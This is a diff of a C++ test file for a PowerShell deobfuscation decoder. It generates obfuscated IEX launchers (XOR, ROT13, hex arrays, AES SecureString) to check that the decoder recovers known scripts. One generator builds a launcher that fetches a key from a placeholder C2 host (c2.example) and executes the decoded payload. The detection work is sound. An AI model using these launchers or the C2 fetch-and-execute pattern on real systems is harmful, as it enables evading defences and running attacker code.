@@ -1,6 +1,9 @@
 // A small Invoke-Obfuscation look-alike written in the test: TOKEN (ticks),
 // STRING (concatenation, -f reordering, reversal), ENCODING (ASCII / hex /
 // octal / binary char codes, delimited strings, -bxor) and Base64 launchers,
+// plus the byte-level families -- BXOR (a byte array XORed with a key written
+// as -bxor, or with a key the script never shows), ROT13 literals, hex byte
+// arrays and SecureString with a literal -Key --
 // applied singly and nested 2-4 deep (seeded) to known clear scripts. The
 // layered decoder must reveal the clear signature text in some layer, with
 // the expected decoders on the path from the root to that layer.
@@ -11,7 +14,14 @@
 #include <string>
 #include <vector>
 
+#include <openssl/evp.h>
+
+#include <cstdio>
+
 #include "decoders/layered_decoder.h"
+#include "decoders/rotation.h"
+#include "decoders/secure_string.h"
+#include "decoders/xor.h"
 #include "zlib.h"
 #include "gtest/gtest.h"
 #include "tests/decoders/test_util.h"
@@ -263,7 +273,128 @@ std::string Compress(const std::string& s, std::mt19937& rng) {
          "CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";
 }
 
+
+std::string HexBytes(std::string_view bytes, std::string_view sep,
+                     std::string_view prefix) {
+  std::string out;
+  char buf[4];
+  for (size_t i = 0; i < bytes.size(); ++i) {
+    if (i) out += sep;
+    std::snprintf(buf, sizeof(buf), "%02x", static_cast<uint8_t>(bytes[i]));
+    out += prefix;
+    out += buf;
+  }
+  return out;
+}
+
+// BXOR with the key in the script: a 0x list XORed with -bxor 0xKK.
+std::string BxorLiteral(const std::string& s, std::mt19937& rng) {
+  const int key = 0x80 + static_cast<int>(rng() % 127);
+  std::string x(s);
+  for (char& c : x) c = static_cast<char>(c ^ key);
+  char k[8];
+  std::snprintf(k, sizeof(k), "0x%02X", key);
+  return "$b = [byte[]](" + HexBytes(x, ",", "0x") +
+         "); IEX ([Text.Encoding]::ASCII.GetString(($b | ForEach-Object { "
+         "$_ -bxor " + k + " })))";
+}
+
+// BXOR with a key the script does not show (fetched at run time): a
+// FromBase64String payload of bytes XORed with a 1-3 byte key.
+std::string BxorRecovered(const std::string& s, std::mt19937& rng) {
+  // Recovery needs ~32 bytes per key byte: short scripts get short keys.
+  std::string key(s.size() >= 160 ? 1 + rng() % 3 : 1 + rng() % 2, '\0');
+  for (char& c : key) c = static_cast<char>(0x80 + rng() % 127);
+  std::string x;
+  // Recovery scores the result: a short text under a long key may not be
+  // recoverable (xor_test.cc measures that); draw again, down to one byte.
+  for (int attempt = 0;; ++attempt) {
+    x = s;
+    for (size_t i = 0; i < x.size(); ++i) x[i] = static_cast<char>(x[i] ^ key[i % key.size()]);
+    XorRecovery rec;
+    if (attempt >= 8 || (RecoverXorKey(x, XorRecoveryOptions{}, &rec) && rec.key == key)) break;
+    if (attempt + 1 >= 8) return BxorLiteral(s, rng);  // still an xor layer
+    key.resize(attempt < 4 ? key.size() : 1);
+    for (char& c : key) c = static_cast<char>(0x80 + rng() % 127);
+  }
+  return "$k = (Invoke-RestMethod http://c2.example/k).key; $d = [Convert]::"
+         "FromBase64String('" + Base64Encode(x) + "'); IEX ([Text.Encoding]"
+         "::ASCII.GetString((0..($d.Length-1) | ForEach-Object { $d[$_] "
+         "-bxor $k[$_ % $k.Length] })))";
+}
+
+// ROT13 of the script in a literal, decoded by a char loop at run time.
+std::string Rot13(const std::string& s, std::mt19937&) {
+  std::string r;
+  RotateLetters(s, 13, &r);
+  std::string lit;
+  for (char c : r) {
+    lit += c;
+    if (c == '\'') lit += '\'';
+  }
+  return "$r = '" + lit + "'; IEX (($r.ToCharArray() | ForEach-Object { "
+         "$c = [int]$_; if ($c -ge 97 -and $c -le 122) { [char](97 + ($c - "
+         "84) % 26) } elseif ($c -ge 65 -and $c -le 90) { [char](65 + ($c - "
+         "52) % 26) } else { $_ } }) -join '')";
+}
+
+// A hex string of the script's bytes, parsed two digits at a time.
+std::string HexArray(const std::string& s, std::mt19937& rng) {
+  const char* seps[] = {"", " ", "-", ":"};
+  const std::string sep = seps[rng() % 4];
+  return "$h = '" + HexBytes(s, sep, "") + "'; $b = [byte[]]($h -replace "
+         "'[^0-9a-f]','' -split '(..)' -ne '' | ForEach-Object { "
+         "[Convert]::ToByte($_, 16) }); IEX ([Text.Encoding]::UTF8.GetString"
+         "($b))";
+}
+
+// What ConvertFrom-SecureString -Key writes for `plain` (AES-CBC).
+std::string SecureBlob(std::string_view plain, std::string_view key,
+                       std::string_view iv) {
+  const std::string utf16 = testing::Utf16le(plain);
+  const EVP_CIPHER* cipher = key.size() == 16   ? EVP_aes_128_cbc()
+                             : key.size() == 24 ? EVP_aes_192_cbc()
+                                                : EVP_aes_256_cbc();
+  std::string ct(utf16.size() + 32, '\0');
+  int n1 = 0, n2 = 0;
+  EVP_CIPHER_CTX* ctx = EVP_CIPHER_CTX_new();
+  EVP_EncryptInit_ex(ctx, cipher, nullptr,
+                     reinterpret_cast<const unsigned char*>(key.data()),
+                     reinterpret_cast<const unsigned char*>(iv.data()));
+  EVP_EncryptUpdate(ctx, reinterpret_cast<unsigned char*>(ct.data()), &n1,
+                    reinterpret_cast<const unsigned char*>(utf16.data()),
+                    static_cast<int>(utf16.size()));
+  EVP_EncryptFinal_ex(ctx, reinterpret_cast<unsigned char*>(ct.data()) + n1,
+                      &n2);
+  EVP_CIPHER_CTX_free(ctx);
+  ct.resize(static_cast<size_t>(n1 + n2));
+  const std::string fields =
+      "2|" + Base64Encode(iv) + "|" + HexBytes(ct, "", "");
+  return std::string(kSecureStringKeyHeader) +
+         Base64Encode(testing::Utf16le(fields));
+}
+
+// Invoke-Obfuscation's SECURESTRING encoding with a literal -Key.
+std::string SecureString(const std::string& s, std::mt19937& rng) {
+  std::string key(rng() % 2 ? 16 : 32, '\0'), iv(16, '\0');
+  for (char& c : key) c = static_cast<char>(1 + rng() % 255);
+  for (char& c : iv) c = static_cast<char>(rng() % 256);
+  std::string list;
+  for (size_t i = 0; i < key.size(); ++i) {
+    if (i) list += ",";
+    list += std::to_string(static_cast<uint8_t>(key[i]));
+  }
+  return "IEX ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime."
+         "InteropServices.Marshal]::SecureStringToBSTR((ConvertTo-SecureString "
+         "'" + SecureBlob(s, key, iv) + "' -Key (" + list + ")))))";
+}
+
 const Family kFamilies[] = {
+    {"bxor_literal", "xor", BxorLiteral},
+    {"bxor_recovered", "xor", BxorRecovered},
+    {"rot13", "rotation", Rot13},
+    {"hex_array", "byte_array", HexArray},
+    {"securestring", "securestring", SecureString},
     {"compress", "deflate", Compress},
     {"ticks", "normalize", Ticks},
     {"concat", "normalize", Concat},
@@ -317,6 +448,12 @@ TEST(ObfuscationFamiliesTest, SingleLayer) {
       for (int rep = 0; rep < 3; ++rep) {
         const std::string text = f.apply(c.script, rng);
         if (text == c.script) continue;  // nothing to tick in this script
+        if (std::string_view(f.name) == "rot13") {
+          // Found by vocabulary: a one-cmdlet script rotated is not enough.
+          std::string r;
+          RotateLetters(c.script, 13, &r);
+          if (DetectRotation(r) != 13) continue;
+        }
         std::string why;
         ++total;
         const bool found = Reveals(dec, text, c.signature, {f.decoder}, &why);
@@ -343,6 +480,14 @@ TEST(ObfuscationFamiliesTest, NestedTwoToFourDeep) {
         // Ticks only make sense on code, not on a wrapper's own launcher.
         const std::string next = f.apply(text, rng);
         if (next == text) continue;  // nothing to tick
+        // ROT13 is found by the PowerShell vocabulary it hides: a text with
+        // too little of it (a bare Base64 launcher) is not a ROT13 layer
+        // anyone writes; skip such draws.
+        if (std::string_view(f.name) == "rot13") {
+          std::string r;
+          RotateLetters(text, 13, &r);
+          if (DetectRotation(r) != 13 || last == "rot13") continue;
+        }
         // Ticks on a wrapper's own code (ForEach-Object) are not needed to
         // reveal the payload: expect their decoder only when they hit the
         // signature itself.
@@ -369,6 +514,43 @@ TEST(ObfuscationFamiliesTest, NestedTwoToFourDeep) {
     }
   }
   std::printf("nested: %zu / %zu revealed\n", ok, total);
+}
+
+// Every byte-level family under every other, two deep, checked both ways.
+TEST(ObfuscationFamiliesTest, ByteLevelPairs) {
+  std::mt19937 rng(77);
+  LayeredDecoder dec;
+  size_t ok = 0, total = 0;
+  for (size_t a = 0; a < 5; ++a) {      // byte-level families come first
+    for (size_t b = 0; b < kFamilyCount; ++b) {
+      const Clear& c = kScripts[(a * 7 + b) % (sizeof(kScripts) / sizeof(kScripts[0]))];
+      if (std::string_view(kFamilies[b].name) == "rot13") {
+        std::string rc;
+        RotateLetters(c.script, 13, &rc);
+        if (DetectRotation(rc) != 13) continue;
+      }
+      std::string inner = kFamilies[b].apply(c.script, rng);
+      if (inner == c.script) continue;
+      std::string r;
+      RotateLetters(inner, 13, &r);
+      if (std::string_view(kFamilies[a].name) == "rot13" &&
+          (DetectRotation(r) != 13 || a == b)) {
+        continue;
+      }
+      const std::string text = kFamilies[a].apply(inner, rng);
+      std::multiset<std::string> expected = {kFamilies[a].decoder};
+      if (std::string_view(kFamilies[b].name) != "ticks") {
+        expected.insert(kFamilies[b].decoder);
+      }
+      std::string why;
+      ++total;
+      const bool found = Reveals(dec, text, c.signature, expected, &why);
+      ok += found;
+      EXPECT_TRUE(found) << kFamilies[a].name << " > " << kFamilies[b].name
+                         << ": " << why << "\n" << text.substr(0, 300);
+    }
+  }
+  std::printf("byte-level pairs: %zu / %zu revealed\n", ok, total);
 }
 
 }  // namespace
